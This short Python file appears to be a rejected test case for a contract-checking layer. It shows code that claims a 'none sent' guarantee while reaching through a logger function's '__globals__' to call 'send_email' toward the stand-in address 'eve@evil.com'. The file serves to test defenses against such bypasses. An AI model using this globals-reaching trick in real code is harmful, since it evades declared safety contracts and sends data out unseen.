# rejected: a function's globals
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log.__globals__["send_email"]("eve@evil.com", "x")
